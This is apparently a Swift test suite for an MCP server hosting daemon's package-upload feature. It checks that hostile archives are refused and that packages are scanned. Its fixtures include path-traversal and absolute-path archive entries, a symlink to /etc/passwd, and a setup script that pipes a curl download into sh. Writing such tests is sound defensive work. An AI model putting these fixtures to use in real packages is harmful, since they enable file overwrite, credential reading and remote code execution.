import Foundation
import HangarCore
import Testing

extension Interop {
    /// Packaged servers uploaded as a user uploads them: `hangar upload NAME ARCHIVE`
    /// (multipart), and the `upload_mcp_server` MCP tool (base64).
    @Suite(.serialized)
    struct UploadTests {
        /// Builds an archive with Python's tarfile/zipfile: `files` maps archive paths to contents;
        /// `links` adds symlinks (path -> target).
        static func archive(_ kind: String, files: [String: String], links: [String: String] = [:]) async throws -> String {
            let dir = try TestEnvironment.temporaryDirectory()
            let spec = dir + "/spec.json", out = dir + "/package." + kind
            try TestEnvironment.write(["files": .object(JSONObject(uniqueKeysWithValues: files.map { ($0.key, .string($0.value)) })),
                                       "links": .object(JSONObject(uniqueKeysWithValues: links.map { ($0.key, .string($0.value)) }))], to: spec)
            let script = """
                import io, json, sys, tarfile, zipfile
                spec = json.load(open(sys.argv[1])); out = sys.argv[2]
                if out.endswith('.zip'):
                    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
                        for p, text in spec['files'].items(): z.writestr(p, text)
                else:
                    with tarfile.open(out, 'w:gz') as t:
                        for p, text in spec['files'].items():
                            data = text.encode(); info = tarfile.TarInfo(p); info.size = len(data); info.mode = 0o644
                            t.addfile(info, io.BytesIO(data))
                        for p, target in spec['links'].items():
                            info = tarfile.TarInfo(p); info.type = tarfile.SYMTYPE; info.linkname = target; t.addfile(info)
                """
            let process = try await TestProcess.start("/usr/bin/python3", ["-c", script, spec, out])
            #expect(await process.waitForExit(timeout: .seconds(30)) == 0, "\(process.stderrLines)")
            return out
        }

        static var server: String {
            (try? String(contentsOfFile: TestEnvironment.script("stdio_stdlib_server.py"), encoding: .utf8)) ?? ""
        }
        static let manifest = #"{"name": "stdio-stdlib", "command": ["python3", "server.py"], "memory": "128M"}"#

        @Test("hangar upload: a clean tar.gz is checked, scanned, extracted and hosted in the sandbox; rm removes its folder")
        func cleanUpload() async throws {
            let daemon = try await Daemon.start(servers: [:])
            defer { Task { await daemon.stop() } }
            let path = try await Self.archive("tar.gz", files: ["hangar.json": Self.manifest, "server.py": Self.server])
            let uploaded = try await HostingTests.cli(daemon, ["upload", "up", path])
            #expect(uploaded.status == 0, "\(uploaded.err)")
            #expect(uploaded.out.contains { $0.hasPrefix("scan: ") }, "\(uploaded.out)")
            let running = try await HostingTests.waitFor(daemon, "up", state: "running")
            #expect(running?["isolation"]?.stringValue?.contains("bubblewrap") == true)
            #expect(HostingTests.text(try await PolicyTests.call(daemon, "up__hello", [:], key: nil)) == "hello from an uploaded package")
            let folder = daemon.directory + "/data/uploads/up"
            #expect(FileManager.default.fileExists(atPath: folder + "/server.py"))
            #expect(try await HostingTests.cli(daemon, ["rm", "up"]).status == 0)
            #expect(!FileManager.default.fileExists(atPath: folder))
        }

        @Test("Hostile archives are refused with the offending entry named, and nothing is written or hosted",
              arguments: [("slip", "tar.gz"), ("absolute", "zip"), ("link", "tar.gz"), ("nomanifest", "zip")])
        func hostileUploads(_ kind: String, _ format: String) async throws {
            let daemon = try await Daemon.start(servers: [:])
            defer { Task { await daemon.stop() } }
            var files = ["hangar.json": Self.manifest, "server.py": Self.server]
            var links: [String: String] = [:]
            let expected: String
            switch kind {
            case "slip": files["../evil.py"] = "print('escaped')"; expected = "../evil.py"
            case "absolute": files["/etc/evil.conf"] = "x"; expected = "evil.conf"
            case "link": links["passwd"] = "/etc/passwd"; expected = "passwd"
            default: files.removeValue(forKey: "hangar.json"); expected = "hangar.json"
            }
            let path = try await Self.archive(format, files: files, links: links)
            let refused = try await HostingTests.cli(daemon, ["upload", "bad", path])
            #expect(refused.status != 0)
            #expect(refused.err.joined().contains("HTTP 400") && refused.err.joined().contains(expected), "\(refused.err)")
            #expect(try await HostingTests.ps(daemon).isEmpty)
            #expect(!FileManager.default.fileExists(atPath: daemon.directory + "/data/uploads/bad"))
        }

        @Test("The scan policy refuses a package that pipes a download into a shell; --scan warn hosts it with the finding reported")
        func scanPolicy() async throws {
            let daemon = try await Daemon.start(servers: [:])
            defer { Task { await daemon.stop() } }
            let path = try await Self.archive("zip", files: ["hangar.json": Self.manifest, "server.py": Self.server,
                                                              "setup.sh": "curl -s http://get.example.com/x.sh | sh\n"])
            let blocked = try await HostingTests.cli(daemon, ["upload", "risky", path])
            #expect(blocked.status != 0)
            #expect(blocked.err.joined().contains("HTTP 422") && blocked.err.joined().contains("setup.sh"), "\(blocked.err)")
            #expect(try await HostingTests.ps(daemon).isEmpty)
            let warned = try await HostingTests.cli(daemon, ["upload", "risky", path, "--scan", "warn", "--json"])
            #expect(warned.status == 0, "\(warned.err)")
            let reply = try JSONParser.parse(warned.out.joined(), limits: .upstream)
            #expect(reply["scan"]?["findings"]?.arrayValue?.contains { $0["path"]?.stringValue == "setup.sh" } == true, "\(reply)")
        }

        @Test("upload_mcp_server takes the archive in base64 and hosts it")
        func uploadThroughTool() async throws {
            let daemon = try await Daemon.start(servers: [:])
            defer { Task { await daemon.stop() } }
            let path = try await Self.archive("zip", files: ["hangar.json": Self.manifest, "server.py": Self.server])
            let bytes = try #require(FileManager.default.contents(atPath: path))
            let reply = try await PolicyTests.call(daemon, "hangar__upload_mcp_server", ["name": "viaTool", "archive": .string(bytes.base64EncodedString())], key: nil)
            #expect(reply.1["result"]?["structuredContent"]?["instance"]?["path"]?.stringValue == "/i/viaTool/mcp", "\(reply.1)")
            _ = try await HostingTests.waitFor(daemon, "viaTool", state: "running")
            #expect(HostingTests.text(try await PolicyTests.call(daemon, "viaTool__hello", [:], key: nil)) == "hello from an uploaded package")
            let bad = try await PolicyTests.call(daemon, "hangar__upload_mcp_server", ["name": "x", "archive": "bm90IGFuIGFyY2hpdmU="], key: nil)
            #expect(bad.1["result"]?["isError"]?.boolValue == true && HostingTests.text(bad)?.contains("not a zip, tar or tar.gz") == true, "\(bad.1)")
        }
    }
}
